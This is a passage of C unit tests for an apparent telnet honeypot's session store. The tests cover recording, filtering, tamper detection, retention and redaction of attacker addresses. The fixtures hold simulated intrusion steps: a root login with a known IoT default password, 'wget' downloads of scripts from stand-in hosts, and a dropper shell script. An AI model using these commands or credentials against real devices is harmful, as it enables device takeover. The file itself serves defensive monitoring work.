/*
 * Sessions made of events: kept, asked for, vouched for, cleaned and forgotten.
 */
#include "store/test-vouched.h"

#include "base/text.h"
#include "store/session.h"

#include <sys/syscall.h>
#include <sys/wait.h>

/* ---- a process that dies at its n-th write ---- */

static long writes_left = -1;

/* SQLite is a shared library: its calls end here. (The name in C is pwrite64's, where files are large.) */
ssize_t pwrite(int fd, const void *data, size_t n, off_t at)
{
    if (writes_left > 0 && --writes_left == 0)
        _exit(9);
    return syscall(SYS_pwrite64, fd, data, n, at);
}

#define US INT64_C(1000000)
#define START (DAY * US)

/* ---- events ---- */

static struct addr address(const char *text)
{
    struct addr a;
    assert_int_equal(addr_parse(text, &a), 0);
    return a;
}

static int keep(struct store *s, const struct session_event *e)
{
    int err = store_session_event(s, e);
    assert_true(err >= 0);
    return err;
}

static void open_one(struct store *s, uint64_t id, int64_t time, const char *source, const char *persona)
{
    struct session_event e;
    struct addr from = address(source), to = address("192.0.2.77");
    session_begin(&e, SESSION_OPEN, id, time);
    session_set_address(&e, FIELD_SOURCE, &from);
    session_set(&e, FIELD_SOURCE_PORT, 40000);
    session_set_address(&e, FIELD_DESTINATION, &to);
    session_set(&e, FIELD_DESTINATION_PORT, 23);
    session_set_text(&e, FIELD_SERVICE, "telnet");
    session_set_text(&e, FIELD_PERSONA, persona);
    assert_int_equal(keep(s, &e), 0);
}

static int say(struct store *s, uint64_t id, int64_t time, unsigned direction, const void *data, size_t n)
{
    struct session_event e;
    session_begin(&e, SESSION_SPOKEN, id, time);
    session_set(&e, FIELD_DIRECTION, direction);
    session_set(&e, FIELD_AT, (uint64_t)(time - START));
    session_set_bytes(&e, FIELD_DATA, data, n);
    return keep(s, &e);
}

static int say_text(struct store *s, uint64_t id, int64_t time, unsigned direction, const char *text)
{
    return say(s, id, time, direction, text, strlen(text));
}

static int with_text(struct store *s, uint64_t id, int64_t time, enum session_type type, enum session_field f,
                     const char *text)
{
    struct session_event e;
    session_begin(&e, type, id, time);
    session_set_text(&e, f, text);
    return keep(s, &e);
}

static int login(struct store *s, uint64_t id, int64_t time, const char *user, const char *password, bool accepted)
{
    struct session_event e;
    session_begin(&e, SESSION_LOGIN, id, time);
    session_set_text(&e, FIELD_USER, user);
    session_set_text(&e, FIELD_PASSWORD, password);
    session_set(&e, FIELD_ACCEPTED, accepted);
    return keep(s, &e);
}

static void hash_of(const void *data, size_t n, uint8_t ret[static SHA256_BYTES])
{
    struct sha256 h;
    sha256_begin(&h);
    sha256_add(&h, data, n);
    sha256_end(&h, ret);
}

static void make_file(struct store *s, uint64_t id, int64_t time, const void *data, size_t n, bool honest)
{
    struct session_event e;
    uint8_t hash[SHA256_BYTES];
    hash_of(data, n, hash);
    hash[0] ^= !honest;
    session_begin(&e, SESSION_FILE, id, time);
    session_set_text(&e, FIELD_PATH, "/tmp/x");
    session_set_bytes(&e, FIELD_SHA256, hash, sizeof hash);
    session_set(&e, FIELD_SIZE, n);
    session_set_bytes(&e, FIELD_CONTENT, data, n);
    assert_int_equal(keep(s, &e), 0);
}

static void close_one(struct store *s, uint64_t id, int64_t time)
{
    assert_int_equal(with_text(s, id, time, SESSION_CLOSE, FIELD_REASON, "left"), 0);
}

/* A whole session, of some seconds. */
static void visit(struct store *s, uint64_t id, int64_t time, const char *source, const char *persona,
                  const char *command)
{
    open_one(s, id, time, source, persona);
    assert_int_equal(say_text(s, id, time + US, 1, "login: "), 0);
    login(s, id, time + US, "root", "wrong", false);
    login(s, id, time + 2 * US, "root", "xc3511", true);
    assert_int_equal(with_text(s, id, time + 3 * US, SESSION_COMMAND, FIELD_COMMAND, command), 0);
    assert_int_equal(say_text(s, id, time + 3 * US, 0, command), 0);
    assert_int_equal(with_text(s, id, time + 3 * US, SESSION_DOWNLOAD, FIELD_URL, "http://198.51.100.9/m.sh"), 0);
    assert_int_equal(with_text(s, id, time + 4 * US, SESSION_UNKNOWN, FIELD_COMMAND, "dvrHelper"), 0);
    close_one(s, id, time + 5 * US);
}

/* ---- answers ---- */

struct list {
    struct session_facts row[40];
    size_t n;
};

static int take_row(void *context, const struct session_facts *row)
{
    struct list *l = context;
    assert_true(l->n < 40);
    l->row[l->n++] = *row;
    return 0;
}

static struct list ask(struct store *s, struct session_filter f)
{
    static struct list l;
    l.n = 0;
    assert_int_equal(store_sessions(s, &f, take_row, &l), 0);
    return l;
}

static int take_piece(void *context, const struct session_piece *p)
{
    struct buf *b = context;
    buf_u8(b, p->direction);
    buf_put(b, p->data, p->n);
    return 0;
}

static struct buf spoken_in(struct store *s, uint64_t id)
{
    struct buf b;
    buf_init(&b, 1 << 20);
    assert_int_equal(store_session_spoken(s, id, take_piece, &b), 0);
    return b;
}

static int count_event(void *context, const struct session_event *e)
{
    unsigned *types = context;
    types[e->type]++;
    return 0;
}

/* ---- keeping ---- */

static void test_keeps(void **state)
{
    (void)state;
    struct session_facts f;
    struct store *s = open_store(STORE_WRITE), *reader = open_store(STORE_READ);
    open_one(s, 7, START, "198.51.100.4", "recorder");
    assert_int_equal(with_text(s, 7, START + 1, SESSION_CLIENT, FIELD_TERMINAL, "vt100"), 0);
    assert_int_equal(store_session(reader, 7, &f), 1);
    assert_int_equal(store_commit(s), 0);
    login(s, 7, START + US, "root", "", true);
    struct session_event e;
    session_begin(&e, SESSION_CLIENT, 7, START + 2);
    session_set_bytes(&e, FIELD_NEGOTIATION, "\xfd\x01", 2);
    assert_int_equal(keep(s, &e), 0);
    assert_int_equal(with_text(s, 7, START + 2 * US, SESSION_COMMAND, FIELD_COMMAND, "id"), 0);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(store_session(reader, 7, &f), 0);
    assert_int_equal(f.end, 0);
    close_one(s, 7, START + 3 * US);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(store_session(reader, 7, &f), 0);
    assert_true(f.id == 7 && f.start == START && f.end == START + 3 * US && f.last == f.end);
    assert_true(f.logged_in && f.commands == 1 && f.downloads == 0 && f.events == 6);
    assert_true(f.source_port == 40000 && f.destination_port == 23);
    assert_string_equal(f.service, "telnet");
    assert_string_equal(f.persona, "recorder");
    assert_string_equal(f.client, "fd01 vt100");
    struct addr source = address("198.51.100.4");
    assert_int_equal(addr_cmp(&f.source, &source), 0);
    unsigned types[SESSION_TYPES] = { 0 };
    assert_int_equal(store_session_events(reader, 7, count_event, types), 0);
    assert_true(types[SESSION_OPEN] == 1 && types[SESSION_CLIENT] == 2 && types[SESSION_CLOSE] == 1);
    store_close(reader);
    store_close(s);
}

static void test_strays(void **state)
{
    (void)state;
    struct session_event e;
    struct store *s = open_store(STORE_WRITE);
    assert_int_equal(login(s, 1, START, "a", "b", true), STORE_STRAY);
    open_one(s, 1, START, "198.51.100.4", "p");
    session_begin(&e, SESSION_OPEN, 1, START);
    assert_int_equal(keep(s, &e), STORE_STRAY);
    close_one(s, 1, START + 1);
    assert_int_equal(say_text(s, 1, START + 2, 0, "x"), STORE_STRAY);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(say_text(s, 1, START + 2, 0, "x"), STORE_STRAY);
    assert_int_equal(keep(s, &e), STORE_STRAY);
    session_begin(&e, SESSION_OPEN, 2, INT64_MAX);
    assert_int_equal(keep(s, &e), STORE_STRAY);
    /* What is rolled back never was. */
    open_one(s, 3, START, "198.51.100.4", "p");
    store_rollback(s);
    assert_int_equal(login(s, 3, START, "a", "b", true), STORE_STRAY);
    for (uint64_t id = 100; id < 700; id++)
        open_one(s, id, START, "198.51.100.4", "p");
    for (uint64_t id = 100; id < 700; id++)
        close_one(s, id, START + 9);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session"), 601);
    assert_sound(s);
    store_close(s);
}

/* Pieces come back as they went in, whatever blobs they lie in; past the cap they are counted. */
static void test_transcript(void **state)
{
    (void)state;
    struct buf want, got;
    struct session_facts f;
    struct store *s = open_store(STORE_WRITE);
    store_session_rules(s, &(struct session_rules){ .transcript = 60000 });
    buf_init(&want, 1 << 20);
    open_one(s, 9, START, "198.51.100.4", "p");
    size_t said = 0, unsaid = 0;
    for (unsigned i = 0; i < 300; i++) {
        uint8_t piece[512];
        size_t n = 1 + pick(sizeof piece);
        for (size_t k = 0; k < n; k++)
            piece[k] = (uint8_t)("abcd "[pick(5)]);
        assert_int_equal(say(s, 9, START + i, i % 2, piece, n), 0);
        if (!unsaid && said + n <= 60000) {
            said += n;
            buf_u8(&want, i % 2);
            buf_put(&want, piece, n);
        } else {
            unsaid += n;
        }
        if (i % 7 == 0) {
            assert_int_equal(store_commit(s), 0);
            assert_sound(s);
        }
    }
    for (unsigned closed = 0; closed < 2; closed++) {
        if (closed)
            close_one(s, 9, START + US);
        assert_int_equal(store_commit(s), 0);
        got = spoken_in(s, 9);
        assert_int_equal(got.len, want.len);
        assert_memory_equal(got.data, want.data, want.len);
        buf_release(&got);
    }
    assert_int_equal(store_session(s, 9, &f), 0);
    assert_true(f.spoken == said && f.unspoken == unsaid && unsaid > 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM spoken"), 4);
    assert_int_equal(number_in(s, "SELECT count(*) FROM spoken WHERE packed=0"), 0);
    assert_true(number_in(s, "SELECT sum(length(blob)) FROM spoken") < 30000);
    assert_sound(s);
    buf_release(&want);
    store_close(s);
}

/* Once, under its own hash; what is cut or lies about it is not kept. */
static void test_made(void **state)
{
    (void)state;
    struct buf b;
    uint8_t hash[SHA256_BYTES];
    struct store *s = open_store(STORE_WRITE);
    open_one(s, 1, START, "198.51.100.4", "p");
    make_file(s, 1, START, "one", 3, true);
    make_file(s, 1, START + 1, "two", 3, false);
    open_one(s, 2, START, "198.51.100.5", "p");
    make_file(s, 2, START + 9, "one", 3, true);
    close_one(s, 1, START + 20);
    close_one(s, 2, START + 20);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM made"), 1);
    assert_int_equal(number_in(s, "SELECT last FROM made"), START + 9);
    buf_init(&b, 100);
    hash_of("one", 3, hash);
    assert_int_equal(store_made(s, hash, &b), 0);
    assert_int_equal(b.len, 3);
    assert_memory_equal(b.data, "one", 3);
    hash[0]++;
    assert_int_equal(store_made(s, hash, &b), 1);
    buf_release(&b);
    assert_sound(s);
    store_close(s);
}

/* Of what is made beyond what may be kept only the hash is; after a restart, too. */
static void test_made_most(void **state)
{
    (void)state;
    static char file[3][500];
    struct buf b;
    uint8_t hash[SHA256_BYTES];
    buf_init(&b, 1000);
    uint32_t random = 1;
    for (size_t i = 0; i < sizeof file; i++)
        file[i / sizeof file[0]][i % sizeof file[0]] = (char)((random = random * 1103515245u + 12345) >> 16); /* not to be packed */
    for (int i = 0; i < 3; i++) {
        struct store *s = open_store(STORE_WRITE);
        store_session_rules(s, &(struct session_rules){ .remember = 86400, .transcript = 1000, .made = 1200 });
        open_one(s, (uint64_t)i + 1, START, "198.51.100.4", "p");
        make_file(s, (uint64_t)i + 1, START + i, file[i], sizeof file[i], true);
        close_one(s, (uint64_t)i + 1, START + 20);
        assert_int_equal(store_commit(s), 0);
        hash_of(file[i], sizeof file[i], hash);
        assert_int_equal(store_made(s, hash, &b), i < 2 ? 0 : 1);
        buf_reset(&b);
        assert_sound(s);
        store_close(s);
    }
    buf_release(&b);
}

static void test_lost(void **state)
{
    (void)state;
    struct session_facts f;
    struct store *s = open_store(STORE_WRITE);
    for (uint64_t id = 1; id <= 100; id++)
        open_one(s, id, START + (int64_t)id, "198.51.100.4", "p");
    assert_int_equal(store_sessions_lost(s, START + 51), 0);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session WHERE end IS NULL"), 50);
    assert_int_equal(store_session(s, 50, &f), 0);
    assert_int_equal(f.events, 2);
    uint64_t greatest;
    assert_int_equal(store_session_greatest(s, &greatest), 0);
    assert_int_equal(greatest, 100);
    assert_int_equal(store_sessions_left(s, 75, 8, 3), 0); /* 51, 59, 67, 75 */
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session WHERE end IS NULL"), 46);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session WHERE end IS NULL AND id % 8 = 3"), 3);
    keep_up(s, DAY + 86400 + 60);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session WHERE end IS NULL"), 0);
    assert_sound(s);
    store_close(s);
}

/* ---- all of one, in its order ---- */

static int note_type(void *context, const struct session_event *e)
{
    struct buf *b = context;
    buf_print(b, "%s ", session_type_name(e->type));
    if (e->type == SESSION_SPOKEN)
        buf_print(b, "(%llu %.*s) ", (unsigned long long)session_number(e, FIELD_AT),
                  (int)e->value[FIELD_DATA].bytes.n, (const char *)e->value[FIELD_DATA].bytes.data);
    return 0;
}

static void assert_told(struct store *s, uint64_t id, const char *want)
{
    struct buf b;
    buf_init(&b, 1 << 16);
    assert_int_equal(store_session_told(s, id, note_type, &b), 0);
    buf_u8(&b, 0);
    assert_string_equal(b.data, want);
    buf_release(&b);
}

static int end_at_once(void *context, const struct session_event *e)
{
    unsigned *n = context;
    ++*n;
    return e->type == SESSION_SPOKEN ? 7 : 0;
}

/* A piece comes before what it led to, after the opening, and none after the end; whatever a worker says of its time. */
static void test_told(void **state)
{
    (void)state;
    unsigned n = 0;
    struct session_event e;
    struct store *s = open_store(STORE_WRITE);
    open_one(s, 1, START, "198.51.100.4", "p");
    assert_int_equal(say_text(s, 1, START, 1, "login: "), 0);
    assert_int_equal(say_text(s, 1, START + 5, 0, "root"), 0);
    login(s, 1, START + 5, "root", "a", true);
    assert_int_equal(say_text(s, 1, START + 6, 1, "# "), 0);
    assert_int_equal(with_text(s, 1, START + 9, SESSION_COMMAND, FIELD_COMMAND, "ps"), 0);
    session_begin(&e, SESSION_SPOKEN, 1, START + 10);
    session_set(&e, FIELD_AT, UINT64_MAX);
    session_set_text(&e, FIELD_DATA, "late");
    assert_int_equal(keep(s, &e), 0);
    close_one(s, 1, START + 11);
    open_one(s, 2, START + 20, "198.51.100.4", "p");
    assert_int_equal(say_text(s, 2, START + 30, 1, "#"), 0);
    assert_int_equal(store_commit(s), 0);
    assert_told(s, 1, "open spoken (0 login: ) spoken (5 root) login spoken (6 # ) command"
                      " spoken (18446744073709551615 late) close ");
    assert_told(s, 2, "open spoken (30 #) ");
    assert_told(s, 3, "");
    assert_int_equal(store_session_told(s, 1, end_at_once, &n), 7);
    assert_int_equal(n, 2);
    struct list l = ask(s, (struct session_filter){ .port = -1, .oldest_first = true });
    assert_true(l.n == 2 && l.row[0].id == 1 && l.row[1].id == 2);
    struct prefix p;
    assert_int_equal(prefix_parse("198.51.100.0/24", &p), 0);
    l = ask(s, (struct session_filter){ .port = -1, .oldest_first = true, .source = &p, .limit = 1 });
    assert_true(l.n == 1 && l.row[0].id == 1);
    store_close(s);
}

/* ---- asking ---- */

static void fill(struct store *s)
{
    visit(s, 1, START, "198.51.100.4", "recorder", "cd /tmp; wget http://203.0.113.5/a");
    visit(s, 2, START + 60 * US, "198.51.100.4", "router", "uname -a");
    visit(s, 3, START + 7200 * US, "198.51.200.8", "router", "uname -a");
    visit(s, 4, START + 7300 * US, "2001:db8::5", "router", "ps");
    open_one(s, 5, START + 9000 * US, "198.51.100.4", "router");
    assert_int_equal(store_commit(s), 0);
}

static void test_filter(void **state)
{
    (void)state;
    struct store *s = open_store(STORE_WRITE);
    fill(s);
    struct prefix one, wide, six;
    assert_int_equal(prefix_parse("198.51.100.4", &one) | prefix_parse("198.51.0.0/16", &wide) |
                             prefix_parse("2001:db8::/32", &six), 0);
    static const char ids[][6] = { "54321", "521", "5321", "4",  "32", "4321", "",
                                     "1",     "432", "",     "432", "1", "54",   "54321" };
    const struct session_filter f[] = {
        { .port = -1 }, { .port = -1, .source = &one }, { .port = -1, .source = &wide }, { .port = -1, .source = &six },
        { .port = -1, .command = "uname" }, { .port = -1, .user = "root", .password = "xc3511" },
        { .port = -1, .user = "root", .password = "xc" }, { .port = 23, .persona = "recorder" },
        { .port = -1, .persona = "router", .user = "root" }, { .port = 80 },
        { .port = -1, .password = "wrong", .persona = "router" }, { .port = -1, .until = DAY + 60 },
        { .port = -1, .since = DAY + 7201 }, { .port = 23 },
    };
    for (size_t i = 0; i < sizeof f / sizeof f[0]; i++) {
        struct list l = ask(s, f[i]);
        assert_int_equal(l.n, strlen(ids[i]));
        for (size_t k = 0; k < l.n; k++)
            assert_int_equal(l.row[k].id, (uint64_t)(ids[i][k] - '0'));
    }
    assert_int_equal(ask(s, (struct session_filter){ .port = -1, .limit = 2 }).n, 2);
    store_close(s);
}

static int take_source(void *context, const struct session_source *r)
{
    struct session_source *last = context;
    *last = *r;
    return 0;
}

static int write_name(void *context, const struct session_named *r)
{
    struct buf *b = context;
    char line[200];
    int n = snprintf(line, sizeof line, "%.*s %d %d %d %d %d;", (int)r->n, (const char *)r->name, (int)r->count,
                     (int)r->sources, (int)r->rank, (int)r->previous, (int)r->previous_rank);
    buf_put(b, line, (size_t)n);
    return 0;
}

static void test_top(void **state)
{
    (void)state;
    bool compared;
    struct store *s = open_store(STORE_WRITE);
    fill(s);
    static const char *const want[] = {
        [TOP_CREDENTIALS] = "root/wrong 2 2 1 2 1;root/xc3511 2 2 2 2 2;",
        [TOP_COMMANDS] = "ps 1 1 1 0 0;uname -a 1 1 2 1 2;",
        [TOP_DOWNLOADS] = "http://198.51.100.9/m.sh 2 2 1 2 1;",
        [TOP_PERSONAS] = "router 3 3 1 1 2;",
        [TOP_UNKNOWN] = "dvrHelper 2 2 1 2 1;",
    };
    for (unsigned i = 0; i < SESSION_TOPICS; i++) {
        struct buf b;
        buf_init(&b, 4096);
        const struct session_top t = { .topic = i, .before = DAY - 1000, .from = DAY + 3600, .to = DAY + 9001 };
        assert_int_equal(store_session_top(s, &t, &compared, write_name, &b), 0);
        buf_u8(&b, 0);
        assert_string_equal(b.data, want[i]);
        assert_true(compared);
        buf_release(&b);
    }
    struct prefix who;
    struct session_source source;
    assert_int_equal(prefix_parse("198.51.100.0/24", &who), 0);
    const struct session_filter f = { .port = -1, .source = &who };
    assert_int_equal(store_session_sources(s, &f, take_source, &source), 0);
    assert_true(source.sessions == 3 && source.logged_in == 2 && source.commands == 2 && source.downloads == 2);
    assert_true(source.first == DAY && source.last == DAY + 9000);
    store_close(s);
}

/* ---- evidence ---- */

static void build_sessions(struct store *s)
{
    int64_t sensor;
    assert_int_equal(store_seal(s, DAY), 0); /* the clock from here on */
    assert_int_equal(store_sensor_number(s, "here", &sensor), 0);
    fill(s);
    open_one(s, 20, START + 3600 * 5 * US, "198.51.100.7", "router");
    make_file(s, 20, START + 3600 * 5 * US, "content", 7, true);
    assert_int_equal(say_text(s, 20, START + 3600 * 5 * US + 1, 1, "# "), 0);
    assert_int_equal(store_commit(s), 0);
}

/* Sound all the way: while it grows, kept, after the vouch rows are gone. */
static void test_sound(void **state)
{
    (void)state;
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    assert_int_equal(assert_sound(s).sessions, 6);
    keep_up(s, DAY + 9 * 3600);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_batch WHERE state=1"), 1);
    assert_sound(s);
    close_one(s, 5, START + 10 * 3600 * US);
    assert_int_equal(store_commit(s), 0);
    assert_sound(s);
    keep_up(s, DAY + 11 * 3600);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_batch WHERE state=1"), 2);
    close_one(s, 20, START + 12 * 3600 * US);
    assert_int_equal(store_commit(s), 0);
    for (unsigned h = 13; h < 20; h++) {
        visit(s, 100 + h, START + h * 3600 * US, "198.51.100.4", "router", "id");
        assert_int_equal(store_commit(s), 0);
        keep_up(s, DAY + h * 3600 + 60);
        assert_sound(s);
    }
    keep_up(s, DAY + 40 * 3600);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_batch WHERE state<>1"), 0);
    assert_true(number_in(s, "SELECT min(seq) FROM vouch") > 5);
    assert_int_equal(count_altered(s), 0);
    store_close(s);
}

static const char *const alterations[] = {
    "UPDATE session SET commands=commands+1 WHERE id=1",
    "UPDATE session SET source=x'01020304' WHERE id=2",
    "UPDATE session SET end=end+1 WHERE id=3",
    "UPDATE session SET logged_in=0 WHERE id=3",
    "UPDATE session SET persona=x'41' WHERE id=5",
    "UPDATE session SET hash=x'00' WHERE id=20",
    "UPDATE session SET batch=2 WHERE id=1",
    "UPDATE session_event SET time=time+1 WHERE session=2 AND seq=1",
    "UPDATE session_event SET blob=blob || x'00' WHERE session=20 AND seq=0",
    "UPDATE session_event SET type=5 WHERE session=1 AND seq=3",
    "DELETE FROM session_event WHERE session=1 AND seq=6",
    "INSERT INTO session_event SELECT 4, 99, time, type, blob FROM session_event WHERE session=1 AND seq=3",
    "INSERT INTO session_event SELECT 77, seq, time, type, blob FROM session_event WHERE session=1",
    "DELETE FROM spoken WHERE session=1",
    "UPDATE spoken SET blob=CAST(replace(blob, '#', '$') AS BLOB) WHERE session=20",
    "UPDATE spoken SET session=88 WHERE session=3",
    "DELETE FROM session WHERE id=4",
    "DELETE FROM session WHERE id=1; DELETE FROM session_event WHERE session=1; DELETE FROM spoken WHERE session=1",
    "DELETE FROM session WHERE id=20; DELETE FROM session_event WHERE session=20; DELETE FROM spoken WHERE session=20",
    "INSERT INTO session(id, batch, start, last) VALUES(500, 1, 1, 1)",
    "UPDATE session_batch SET state=2 WHERE id=1",
    "DELETE FROM made",
    "UPDATE made SET blob=x'00'",
};

static void test_alterations(void **state)
{
    (void)state;
    struct told t;
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    keep_up(s, DAY + 9 * 3600);
    store_close(s);
    copy(path_of("teiten.db"), path_of("sound"));
    for (size_t i = 0; i < sizeof alterations / sizeof alterations[0]; i++) {
        alter(alterations[i]);
        s = open_store(STORE_READ);
        if (verify(s, &t).faults == 0)
            fail_msg("not found: %s", alterations[i]);
        store_close(s);
        copy(path_of("sound"), path_of("teiten.db"));
    }
    s = open_store(STORE_READ);
    assert_sound(s);
    store_close(s);
}

/* What was altered before upkeep vouched for it anew stays a fault. */
static void test_altered_before(void **state)
{
    (void)state;
    struct told t;
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    store_close(s);
    alter("UPDATE session SET commands=5, hash=zeroblob(32) WHERE id=2");
    s = open_store(STORE_WRITE);
    keep_up(s, DAY + 9 * 3600);
    assert_int_equal(count_altered(s), 1);
    assert_true(verify(s, &t).faults > 0);
    store_close(s);
}

/* A page of the store is overwritten. */
static void damage(int64_t page)
{
    uint8_t bytes[16384];
    int fd = open(path_of("teiten.db"), O_WRONLY | O_CLOEXEC);
    memset(bytes, 0xff, sizeof bytes);
    assert_int_equal(lseek(fd, (page - 1) * (int64_t)sizeof bytes, SEEK_SET), (page - 1) * (int64_t)sizeof bytes);
    assert_int_equal(write(fd, bytes, sizeof bytes), sizeof bytes);
    close(fd);
}

/* What cannot be read is a fault; upkeep does the rest all the same, and so does who asks for something else. */
static void test_damaged(void **state)
{
    (void)state;
    struct told t;
    int64_t page[2];
    static const char *const of[] = { "SELECT rootpage FROM sqlite_master WHERE name='session_open'",
                                      "SELECT rootpage FROM sqlite_master WHERE name='session_event'" };
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    for (size_t i = 0; i < 2; i++)
        page[i] = number_in(s, of[i]);
    store_close(s);
    copy(path_of("teiten.db"), path_of("sound"));
    for (size_t i = 0; i < 2; i++) {
        damage(page[i]);
        s = open_store(STORE_WRITE);
        int64_t sealed = number_in(s, "SELECT count(*) FROM segment");
        keep_up(s, DAY + 9 * 3600);
        assert_true(number_in(s, "SELECT count(*) FROM segment") > sealed);
        assert_int_equal(ask(s, (struct session_filter){ .port = -1 }).n, 6);
        assert_int_equal(verify(s, &t).faults > 0, i == 1);
        struct prefix p;
        uint64_t n;
        assert_int_equal(prefix_parse("203.0.113.77", &p), 0);
        assert_int_equal(store_forget(s, &p, &n), i == 1 ? -EUCLEAN : 0);
        store_close(s);
        copy(path_of("sound"), path_of("teiten.db"));
    }
}

static void test_retention(void **state)
{
    (void)state;
    bool compared;
    struct store *s = open_store(STORE_WRITE);
    const struct keep forty = { .minutes = 86400, .flows = 86400, .sessions = 40 * 86400, .zone = "UTC" };
    build_sessions(s);
    keep_up_as(s, DAY + 39 * 86400, &forty);
    assert_sound(s);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session"), 6);
    visit(s, 200, START + 39 * 86400 * US, "198.51.100.4", "router", "id");
    assert_int_equal(store_commit(s), 0);
    keep_up_as(s, DAY + 41 * 86400, &forty);
    assert_sound(s);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session"), 1);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_event"), 7);
    assert_int_equal(number_in(s, "SELECT count(*) FROM spoken"), 1);
    assert_int_equal(number_in(s, "SELECT count(*) FROM made"), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM session_batch WHERE state=3"), 3);
    struct session_top t = { .topic = TOP_COMMANDS, .from = DAY, .to = DAY + 40 * 86400 };
    assert_int_equal(store_session_top(s, &t, &compared, write_name, NULL), STORE_REFUSED);
    struct buf b;
    buf_init(&b, 400);
    t.from = DAY + 30 * 86400;
    t.before = DAY + 20 * 86400;
    assert_int_equal(store_session_top(s, &t, &compared, write_name, &b), 0);
    assert_false(compared);
    buf_release(&b);
    store_close(s);
    alter("UPDATE session_batch SET state=1 WHERE id=1");
    struct told told;
    s = open_store(STORE_READ);
    assert_true(verify(s, &told).faults > 0);
    store_close(s);
}

/* ---- forgetting ---- */

static uint64_t forget(struct store *s, const char *text)
{
    struct prefix p;
    uint64_t n;
    assert_int_equal(prefix_parse(text, &p), 0);
    assert_int_equal(store_forget(s, &p, &n), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM forgetting"), 0);
    assert_sound(s);
    return n;
}

/* Whether the bytes stand anywhere in a file of the store. */
static bool in_one_file(const char *name, const char *text)
{
    struct stat st;
    int fd = open(path_of(name), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    assert_int_equal(fstat(fd, &st), 0);
    char *all = malloc((size_t)st.st_size + 1);
    assert_non_null(all);
    assert_int_equal(read(fd, all, (size_t)st.st_size), st.st_size);
    close(fd);
    bool found = memmem(all, (size_t)st.st_size, text, strlen(text)) != NULL;
    free(all);
    return found;
}

static bool in_files(const char *text)
{
    return in_one_file("teiten.db", text) || in_one_file("teiten.db-wal", text);
}

/* Typed in pieces, echoed, in commands, URLs and made files; others' addresses stay, also those that begin alike. */
static void test_forget_words(void **state)
{
    (void)state;
    struct store *s = open_store(STORE_WRITE);
    build_sessions(s);
    open_one(s, 30, START + 3600 * 5 * US, "203.0.113.9", "router");
    assert_int_equal(say_text(s, 30, START + 1, 0, "wget http://198.5"), 0);
    assert_int_equal(say_text(s, 30, START + 2, 0, "1.99.4/a; ping 198.51.100.44"), 0);
    assert_int_equal(say_text(s, 30, START + 3, 1, "198.51.99.4"), 0);
    assert_int_equal(with_text(s, 30, START + 4, SESSION_COMMAND, FIELD_COMMAND, "wget http://198.51.99.4/a"), 0);
    make_file(s, 30, START + 5, "#!/bin/sh\nwget 198.51.99.4\n", 27, true);
    make_file(s, 30, START + 5, "\177ELF\xc6\x33\x63\x04..", 10, true);
    close_one(s, 30, START + 3600 * 5 * US + 9);
    assert_int_equal(store_commit(s), 0);
    assert_int_equal(number_in(s, "SELECT count(*) FROM made"), 3);
    assert_true(in_files("198.51.99.4"));
    assert_int_equal(forget(s, "198.51.99.4"), 1);
    struct buf b = spoken_in(s, 30);
    static const char want[] = "\0wget http://xxxxx\0xxxxxx/a; ping 198.51.100.44\1xxxxxxxxxxx";
    assert_int_equal(b.len, sizeof want - 1);
    assert_memory_equal(b.data, want, b.len);
    buf_release(&b);
    assert_int_equal(ask(s, (struct session_filter){ .port = -1, .command = "http://xxxxxxxxxxx/a" }).n, 1);
    assert_int_equal(number_in(s, "SELECT count(*) FROM made"), 1);
    assert_false(in_files("198.51.99.4"));
    assert_int_equal(forget(s, "198.51.99.4"), 0);
    store_close(s);
}

static int take_command(void *context, const struct session_event *e)
{
    struct buf *b = context;
    if (e->type == SESSION_RUN) {
        assert_int_equal(e->value[FIELD_WORDS].bytes.n, 22);
        assert_memory_equal(e->value[FIELD_WORDS].bytes.data, "./x\0-s\0xxxxxxxxxxxx:80", 22);
    }
    if (e->type == SESSION_COMMAND)
        buf_put(b, e->value[FIELD_COMMAND].bytes.data, e->value[FIELD_COMMAND].bytes.n);
    return 0;
}

static void test_forget_forms(void **state)
{
    (void)state;
    static const struct {
        const char *text, *want;
    } row[] = {
        { "198.51.100.4", "xxxxxxxxxxxx" },
        { "http://198.51.100.4:80/a", "http://xxxxxxxxxxxx:80/a" },
        { "a=198.51.100.4,198.51.100.4;b198.51.100.4c", "a=xxxxxxxxxxxx,xxxxxxxxxxxx;bxxxxxxxxxxxxc" },
        { "198.51.100.4.", "xxxxxxxxxxxx." },
        { "10.198.51.100.4", "10.xxxxxxxxxxxx" },
        { "198.51.100.004/24", "xxxxxxxxxxxxxx/24" },
        { "::ffff:198.51.100.4", "::ffff:xxxxxxxxxxxx" },
        { "198.51.100.44 1198.51.100.4 198.51.100.4444", "198.51.100.44 1198.51.100.4 198.51.100.4444" },
        { "198.51.100 198.51..4 .198.51.100. 198.51.100.256", "198.51.100 198.51..4 .198.51.100. 198.51.100.256" },
        { "[2001:db8::5]:80", "[xxxxxxxxxxx]:80" },
        { "2001:DB8:0:0:0::5, 2001:db8::5.", "xxxxxxxxxxxxxxxxx, xxxxxxxxxxx." },
        { "2001:db8::5: fe 2001:db8::5", "xxxxxxxxxxx: fe xxxxxxxxxxx" },
        { "2001:db8::55 12001:db8::5 :::: ::", "2001:db8::55 12001:db8::5 :::: ::" },
